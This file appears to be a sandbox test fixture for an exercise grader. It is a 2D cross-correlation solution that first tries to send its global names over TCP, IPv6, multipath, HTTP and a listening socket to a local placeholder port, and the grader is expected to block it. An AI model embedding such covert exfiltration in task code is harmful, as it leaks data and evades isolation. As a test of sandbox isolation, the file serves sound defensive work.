# exercise: ch07_convolution/corr2d
# expect: status=error score=0
# why: sends what it knows over TCP
import socket
import urllib.request

LEAK = b"kata_attack " + repr(sorted(globals())).encode()


def send(family, kind, address):
    with socket.socket(family, kind) as connection:
        connection.connect(address)
        connection.send(LEAK)


ATTEMPTS = {
    "IPv4": lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@TCP@"))),
    "IPv6": lambda: send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@TCP@"))),
    "multipath": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("127.0.0.1", int("@TCP@"))),
    "http": lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/kata_attack", timeout=1),
    "listen": lambda: socket.create_server(("127.0.0.1", 0)),
}


def corr2d(X, K):
    done = []
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            done.append(name)
        except OSError:
            continue
    if not done:
        raise PermissionError("none of it was allowed")
    print(done)
    return (X.unfold(0, K.shape[0], 1).unfold(1, K.shape[1], 1) * K).sum((-1, -2))
